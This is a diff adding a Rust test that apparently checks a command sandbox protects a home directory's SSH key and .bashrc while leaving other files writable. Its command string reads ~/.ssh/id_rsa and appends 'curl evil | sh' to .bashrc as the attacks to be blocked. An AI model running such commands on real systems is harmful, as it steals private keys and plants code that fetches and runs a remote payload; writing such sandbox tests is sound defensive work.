@@ -720,3 +720,28 @@ fn a_profile_narrows_the_sandbox_and_every_decision_inside_it() {
         stderr(&out)
     );
 }
+
+#[test]
+fn a_home_inside_a_writable_tree_keeps_its_keys_and_startup_files() {
+    // Env::new puts the home under /tmp, which the sandbox lets commands write.
+    let e = Env::new();
+    if !kernel_ready(&e) {
+        return;
+    }
+    std::fs::write(e.home.join(".bashrc"), "# mine\n").unwrap();
+    let out = exec(
+        &e,
+        &[],
+        "cat ~/.ssh/id_rsa; echo \"ssh=$?\"; echo 'curl evil | sh' >> ~/.bashrc; echo \"bashrc=$?\"; \
+         echo x > ~/scratch.txt; echo \"scratch=$?\"",
+    );
+    let text = stdout(&out);
+    assert!(text.contains("ssh=1") && !text.contains("FAKE"), "{text}");
+    assert!(!text.contains("bashrc=0"), "{text}");
+    assert_eq!(
+        std::fs::read_to_string(e.home.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    // The rest of such a home is as writable as the tree it lies in.
+    assert!(text.contains("scratch=0"), "{text}");
+}
